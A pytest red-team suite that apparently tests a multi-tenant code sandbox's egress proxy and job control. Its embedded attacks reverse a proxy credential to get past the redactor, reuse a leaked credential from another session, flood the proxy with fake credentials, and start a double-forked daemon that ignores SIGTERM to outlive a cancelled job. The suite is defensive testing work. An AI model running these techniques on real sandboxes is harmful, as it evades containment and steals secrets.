        "    out[path] = via('http://egress.sandbox.internal' + path, 'egress.sandbox.internal')\n"
        f"out['bind to {OPEN}'] = via('http://egress.sandbox.internal/bind', {OPEN!r})\n"
        f"out['absolute {EVIL} Host pseudo'] = via('http://{EVIL}/echo?pseudo', 'egress.sandbox.internal')\n"
        "print(json.dumps(out))\n"
    )
    out = turn.json(code)
    answered = {k: v for k, v in out.items() if " 200 " in v and k != "/bind?session=other"}
    record(
        "red_team",
        attack="the proxy's pseudo-host: other paths, a bind naming another host,"
        " a Host of it on another URL",
        surface="egress proxy",
        observed=json.dumps(out)[:200],
        finding="",
    )
    assert not answered and not red.upstream.saw("?pseudo"), out


# --- stolen credentials -------------------------------------------------------------------------------
PRINT_PROXY = {
    "python": "import os\nprint(os.environ['HTTPS_PROXY'])",
    "bash": 'echo "$HTTPS_PROXY"; env | grep -i "^https_proxy="',
    "javascript": "console.log(process.env.HTTPS_PROXY);",
}


@pytest.mark.parametrize("language", list(PRINT_PROXY))
def test_red_the_sessions_proxy_credential_printed_by_a_job_is_redacted(
    red: RedStack, turn: Turn, language: str, record: Any
) -> None:
    # Given the session's own proxy credential (its secret, as the session's code can read it)
    secret = turn.json(
        "import os, json, urllib.parse\nprint(json.dumps("
        "{'r': urllib.parse.urlsplit(os.environ['HTTPS_PROXY']).password[::-1]}))"
    )["r"][::-1]
    # When a foreground call and a background job print it
    foreground = turn.run(PRINT_PROXY[language], language=language)
    _, job = turn.job(PRINT_PROXY[language], language=language, timeout_s=30)
    leaked = [name for name, a in (("foreground", foreground), ("job", job)) if secret in json.dumps(a)]
    record(
        "red_team",
        attack=f"the session's proxy credential printed by {language}, in a call and in a background job",
        surface="front door (jobs), egress credential",
        observed=f"in the answer of: {leaked}" if leaked else "redacted in both",
        finding="low: a background job's answer held the credential in the clear"
        " (its redactor did not know it)",
    )
    # Then neither answer holds it
    assert foreground.get("ok") is True and job.get("status") == "completed", (foreground, job)
    assert "<redacted>" in job.get("stdout", ""), job
    assert not leaked


def test_red_a_stolen_credential_is_refused_in_another_session_of_the_same_tenant(
    red: RedStack, turn: Turn, record: Any
) -> None:
    # Given this session's proxy URL leaked (reversed: past the redactor)
    leaked = turn.json("import os, json\nprint(json.dumps({'r': os.environ['HTTPS_PROXY'][::-1]}))")["r"][
        ::-1
    ]
    # When another allowlisted session of the same tenant uses it, and a public session tries to
    # reach the proxy at all
    other = red.turn("acme", "allowlisted")
    stolen = other.json(
        "import json, urllib.request\n"
        f"opener = urllib.request.build_opener(urllib.request.ProxyHandler({{'https': {leaked!r}}}))\n"
        "try:\n"
        f"    out = {{'status': opener.open('https://{OPEN}/echo?stolen', timeout=20).status}}\n"
        "except Exception as e:\n"
        "    out = {'error': str(e)[:120]}\n"
        "print(json.dumps(out))\n"
    )
    other.end()
    proxy_port = int(red.state.data["egress"]["proxy"].rsplit(":", 1)[1])
    public = red.turn("acme", "analyst")
    reach = public.json(
        "import json, socket\nout = {}\n"
        f"for host in ('10.0.2.2', '127.0.0.1'):\n"
        "    s = socket.socket(); s.settimeout(3)\n"
        "    try:\n"
        f"        s.connect((host, {proxy_port})); out[host] = 'CONNECTED'\n"
        "    except OSError as e:\n"
        "        out[host] = type(e).__name__\n"
        "    s.close()\n"
        "print(json.dumps(out))\n"
    )
    public.end()
    record(
        "red_team",
        attack="a leaked proxy credential used from another session of the same tenant;"
        " a public session reaching the proxy",
        surface="egress proxy, local relay",
        observed=f"{stolen}; public: {reach}",
        finding="",
    )
    # Then refused (407: the credential is bound to its own session's address); unreachable
    assert "407" in stolen.get("error", ""), stolen
    assert not red.upstream.saw("?stolen")
    assert "CONNECTED" not in reach.values(), reach


# --- the byte cap -----------------------------------------------------------------------------------
def test_red_egress_daily_bytes_holds_on_connections_opened_before_the_cap(
    red: RedStack, record: Any
) -> None:
    proxy = red.proxy
    source = "127.0.0.41"
    session = "rt" + secrets.token_hex(12).upper()
    secret = proxy.issue(session, "globex")
    assert proxy.bind(session, secret, source=source).status == 200
    # Given globex's session holding a keep-alive tunnel and a websocket, both used
    tunnel = Tunnel(proxy, session, secret, OPEN, source=source)
    assert tunnel.get("/bytes?n=1000").status == 200
    import socket
    import ssl

    sock = socket.create_connection((proxy.host, proxy.port), timeout=30, source_address=(source, 0))
    sock.sendall(
        f"CONNECT {OPEN}:443 HTTP/1.1\r\n"
        f"Proxy-Authorization: {proxy.authorization(session, secret)}\r\n\r\n".encode()
    )
    assert _read_head(sock).startswith(b"HTTP/1.1 200")
    ws = ssl.create_default_context(cafile=proxy.ca_cert).wrap_socket(sock, server_hostname=OPEN)
    ws.sendall(
        f"GET /ws HTTP/1.1\r\nHost: {OPEN}\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
        "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n".encode()
    )
    assert _read_head(ws).startswith(b"HTTP/1.1 101")

    def echo(size: int) -> int:
        try:
            ws.sendall(websocket_frame(b"a" * size))
            got = b""
            while len(got) < size:
                chunk = ws.recv(65536)
                if not chunk:
                    break
                got += chunk
            return len(got)
        except OSError:
            return 0

    assert echo(1000) >= 1000
    # When the tenant's egress cap is lowered below what it has sent, and new connections are refused
    assert red.ctl("caps", "set", "egress_daily_bytes", "1", "--tenant", "globex").returncode == 0
    try:
        wait_for(
            lambda: (
                proxy.get(session, secret, f"https://{OPEN}/bytes?n=10", source=source).reason
                == "cap_exceeded"
            ),
            timeout=PROXY_WAIT,
            what="the cap refusing a new connection",
        )
        # Then the connections opened before carry nothing more either
        through_tunnel = sum(_tunnel_bytes(tunnel, "/bytes?n=200000") for _ in range(3))
        through_ws = sum(echo(60000) for _ in range(3))
    finally:
        assert (
            red.ctl("caps", "set", "egress_daily_bytes", str(1 << 30), "--tenant", "globex").returncode == 0
        )
        tunnel.close()
        ws.close()
    record(
        "red_team",
        attack="bytes past egress_daily_bytes on a keep-alive tunnel and a websocket opened before the cap",
        surface="egress proxy",
        observed=f"tunnel {through_tunnel} B, websocket {through_ws} B after the cap",
        finding="medium: the cap was checked only when a connection opened",
    )
    assert through_tunnel < 200000 and through_ws < 60000, (through_tunnel, through_ws)


def _tunnel_bytes(tunnel: Tunnel, path: str) -> int:
    """The body bytes one more request on an open tunnel brought (0 once it is refused or closed)."""
    try:
        answer = tunnel.get(path)
    except (OSError, ConnectionError, __import__("http.client").client.HTTPException):
        return 0
    return len(answer.body) if answer.status == 200 else 0


FETCH_OPEN = (
    "import json, urllib.request\n"
    f"answer = urllib.request.urlopen('https://{OPEN}/bytes?n=10', timeout=20)\n"
    "print(json.dumps({'status': answer.status}))\n"
)


def test_red_a_cap_of_0_on_egress_daily_bytes_refuses_every_byte_and_names_the_cap(
    red: RedStack, record: Any
) -> None:
    # Given globex's allowlisted turn reaching its allowed host (a cap put back earlier applies)
    turn = red.turn("globex", "allowlisted")
    assert turn.begun["sandbox"]["status"] == "ready", turn.begun
    wait_for(
        lambda: turn.run(FETCH_OPEN).get("ok") is True,
        timeout=PROXY_WAIT + 30,
        what="the allowed host reached",
    )
    # When the operator sets egress_daily_bytes to 0 for globex
    assert red.ctl("caps", "set", "egress_daily_bytes", "0", "--tenant", "globex").returncode == 0
    try:
        refused = wait_for(
            lambda: (a := turn.run(FETCH_OPEN)).get("error") == "SandboxCapExceeded" and a,
            timeout=PROXY_WAIT + 30,
            what="the cap of 0 refusing the call",
        )
        quiet = turn.run("print(6 * 7)")
        fresh = red.turn("globex", "allowlisted")
        started = fresh.begun.get("sandbox", {}).get("status")
        fresh_answer = fresh.run(FETCH_OPEN)
        fresh.end()
    finally:
        assert (
            red.ctl("caps", "set", "egress_daily_bytes", str(1 << 30), "--tenant", "globex").returncode == 0
        )
        turn.end()
    record(
        "red_team",
        attack="egress_daily_bytes set to 0: calls that send bytes, a call that sends none, a new session",
        surface="egress proxy, dispatch",
        observed=f"{refused.get('error')} ({refused.get('dimension')}); quiet call ok={quiet.get('ok')};"
        f" new session {started}, its fetch {fresh_answer.get('error') or fresh_answer.get('ok')}",
        finding="",
    )
    # Then a call that sends bytes is refused naming the cap; a call that sends none runs; a new
    # session still starts, and its first byte is refused the same way
    assert refused["dimension"] == "egress_daily_bytes" and refused["exit_status"] == "cap_exceeded", refused
    assert quiet.get("ok") is True and quiet["stdout"].strip() == "42", quiet
    assert started == "ready"
    assert fresh_answer.get("error") == "SandboxCapExceeded", fresh_answer


def test_red_a_flood_of_invented_credentials_does_not_stop_another_tenants_requests(
    red: RedStack, record: Any
) -> None:
    import base64
    import socket
    import statistics

    proxy = red.proxy
    session = "rt" + secrets.token_hex(12).upper()
    secret = proxy.issue(session, "acme")
    assert proxy.bind(session, secret, source="127.0.0.42").status == 200

    def latencies() -> list[float]:
        out = []
        for _ in range(6):
            started = time.monotonic()
            answer = proxy.get(session, secret, f"https://{OPEN}/bytes?n=10", source="127.0.0.42")
            assert answer.status == 200, answer
            out.append(time.monotonic() - started)
        return out

    quiet = latencies()
    stop, sent = threading.Event(), [0]

    def flood() -> None:
        # each CONNECT names a session id never issued: a credential-store read per request
        while not stop.is_set():
            try:
                with socket.create_connection(
                    (proxy.host, proxy.port), timeout=10, source_address=("127.0.0.43", 0)
                ) as s:
                    token = base64.b64encode(
                        f"{secrets.token_hex(13).upper()}:{secrets.token_urlsafe(16)}".encode()
                    ).decode()
                    s.sendall(
                        f"CONNECT {OPEN}:443 HTTP/1.1\r\nProxy-Authorization: Basic {token}\r\n\r\n".encode()
                    )
                    s.recv(64)
                    sent[0] += 1
            except OSError:
                pass

    threads = [threading.Thread(target=flood, daemon=True) for _ in range(24)]
    for t in threads:
        t.start()
    try:
        wait_for(lambda: sent[0] >= 50, timeout=60, what="the flood under way")
        during = latencies()
    finally:
        stop.set()
        for t in threads:
            t.join(15)
    record(
        "red_team",
        attack="a flood of CONNECTs with invented credentials (a store read each)",
        surface="egress proxy",
        observed=f"{sent[0]} refused; another tenant's request p50"
        f" {statistics.median(quiet):.2f}s quiet, {statistics.median(during):.2f}s during",
        finding="",
    )
    assert proxy.answers()


# --- what the stack keeps -------------------------------------------------------------------------
def test_red_no_log_or_table_of_the_stack_holds_a_secret(red: RedStack, turn: Turn, record: Any) -> None:
    # Given the tenant's credential (rendered by the proxy into every call to its host above), the
    # session's own proxy credential (carried once by its readiness call), and after every attack
    secret: str = red.secret  # type: ignore[attr-defined]
    proxy_secret = turn.json(
        "import os, json, urllib.parse\n"
        "print(json.dumps({'r': urllib.parse.urlsplit(os.environ['HTTPS_PROXY']).password[::-1]}))"
    )["r"][::-1]
    values = {"tenant credential": secret, "session proxy credential": proxy_secret}
    # When every log of the stack's processes and every item of its tables is read
    found: dict[str, list[str]] = {}
    scanned = []
    for path in sorted(red.state.directory.rglob("*.log")):
        if path.name == "moto.log":  # the AWS stand-in's own log, which AWS does not have
            continue
        scanned.append(path.name)
        text = path.read_bytes()
        for what, value in values.items():
            if value.encode() in text:
                found.setdefault(what, []).append(path.name)
    for logical, table in red.state.resources.tables.items():
        kwargs: dict[str, Any] = {"TableName": table}
        while True:
            page = red.ddb.scan(**kwargs)
            # binary attributes read as Latin-1: every byte stays one character
            text = json.dumps(page.get("Items", []), default=lambda raw: bytes(raw).decode("latin-1"))
            for what, value in values.items():
                if value in text:
                    found.setdefault(what, []).append(logical)
            if "LastEvaluatedKey" not in page:
                break
            kwargs["ExclusiveStartKey"] = page["LastEvaluatedKey"]
    record(
        "red_team",
        attack="the tenant's credential and a session's proxy credential in the stack's logs and tables",
        surface="egress proxy, dispatch, local interpreter",
        observed=f"found: {found}" if found else "in none",
        finding="",
    )
    # Then neither is in any of them
    assert {"egress.log", "interpreter.log", "lambda.log"} <= set(scanned), scanned
    assert not found, found


# --- a job's descendants --------------------------------------------------------------------------
ORPHAN_JOB = r"""
import os, signal, time, urllib.request
def daemon(tag):
    if os.fork():
        return
    os.setsid()
    if os.fork():
        os._exit(0)
    for sig in (signal.SIGTERM, signal.SIGHUP, signal.SIGINT):
        signal.signal(sig, signal.SIG_IGN)
    with open(f"/tmp/{tag}.pid", "w") as fh:
        fh.write(str(os.getpid()))
    for i in range(600):
        try:
            urllib.request.urlopen(f"https://OPEN/echo?{tag}-{i}", timeout=5).read()
        except Exception:
            pass
        time.sleep(0.3)
    os._exit(0)
daemon("TAG")
time.sleep(300)
"""


def test_red_a_cancelled_jobs_detached_daemon_sends_nothing_more(red: RedStack, record: Any) -> None:
    tag = "orphan-" + secrets.token_hex(4)
    turn = red.turn("acme", "allowlisted")
    try:
        # Given a background job whose double-forked, setsid'd daemon ignores SIGTERM and calls an
        # allowed host every 0.3 s
        submitted = turn.run(ORPHAN_JOB.replace("OPEN", OPEN).replace("TAG", tag), background=True)
        assert submitted.get("status") == "running", submitted
        wait_for(lambda: red.upstream.saw(f"?{tag}-"), timeout=60, what="the daemon's first call")
        # When the job is cancelled
        cancelled = turn.dispatch("cancel_job", job_id=submitted["job_id"])
        final = wait_for(
            lambda: (
                (a := turn.dispatch("get_job", job_id=submitted["job_id"])).get("status") != "running" and a
            ),
            timeout=60,
            what="the job's end",
        )
        # (state, not a clock: the session's processes as a foreground call sees them, twice)
        survivors = []
        for _ in range(2):
            survivors = turn.json(
                "import json, os\n"
                f"pid = int(open('/tmp/{tag}.pid').read())\n"
                "try:\n"
                "    state = open(f'/proc/{pid}/stat').read().rsplit(')', 1)[1].split()[0]\n"
                "except OSError:\n"
                "    state = 'gone'\n"
                "print(json.dumps([] if state in ('gone', 'Z', 'X') else [pid]))\n"
            )
        seen_then = len(red.upstream.saw(f"?{tag}-"))
        again = turn.run("print('still here')")
        seen_after = len(red.upstream.saw(f"?{tag}-"))
    finally:
        turn.end()
    record(
        "red_team",
        attack="a background job's detached daemon (double fork, setsid, SIGTERM ignored) calling out,"
        " then the job cancelled",
        surface="front door (jobs), egress",
        observed=f"job {final.get('status')}; daemon processes left {survivors}; calls after the end"
        f" {seen_after - seen_then}",
        finding="",
    )
    # Then the job is cancelled, no daemon is left in the session, and it calls out no more
    assert cancelled.get("status") in ("cancelled", "running") and final["status"] == "cancelled", final
    assert again.get("ok") is True
    assert survivors == [], survivors
    assert seen_after == seen_then, (seen_then, seen_after)


# --- HTTP/2 between the session and the proxy -----------------------------------------------------
H2_MODES = ("body", "location", "cookie", "early-hints", "chunked-split", "gzip", *QUOTED_MODES)


def test_red_reflections_over_http2_from_the_session_are_scrubbed_too(
    red: RedStack, turn: Turn, record: Any
) -> None:
    secret: str = red.secret  # type: ignore[attr-defined]
    # Given curl in the session speaking HTTP/2 to the proxy (ALPN h2 on the intercepted TLS)
    script = "\n".join(
        f"curl -s -i --http2 --compressed --max-time 20 -w '\\n%{{http_version}}\\n' https://{API}/reflect/{mode}"
        f" | base64 -w0; echo ' {mode}'"
        for mode in H2_MODES
    )
    # When it asks the credential host for each reflection
    answer = turn.run(script, language="bash")
    assert answer.get("ok") is True, answer
    got = {
        line.rsplit(" ", 1)[1]: base64.b64decode(line.rsplit(" ", 1)[0])
        for line in answer["stdout"].strip().splitlines()
    }
    versions = {mode: out.rstrip().rsplit(b"\n", 1)[-1].decode("latin-1") for mode, out in got.items()}
    durations = answer.get("duration_ms")
    leaked = [mode for mode, out in got.items() if secret.encode() in out]
    record(
        "red_team",
        attack=f"{len(H2_MODES)} reflections of the credential asked over HTTP/2 (curl --http2)",
        surface="egress proxy",
        observed=f"HTTP versions {sorted(set(versions.values()))}; leaked in {leaked or 'none'};"
        f" {durations} ms in all",
        finding="low: a 103 Early Hints left the HTTP/2 client without an answer until its timeout",
    )
    # Then each went over HTTP/2, and none brought the secret back
    assert set(got) == set(H2_MODES), answer["stdout"][-300:]
    assert set(versions.values()) == {"2"}, json.dumps(versions)
    assert not leaked, {mode: got[mode][:300] for mode in leaked}
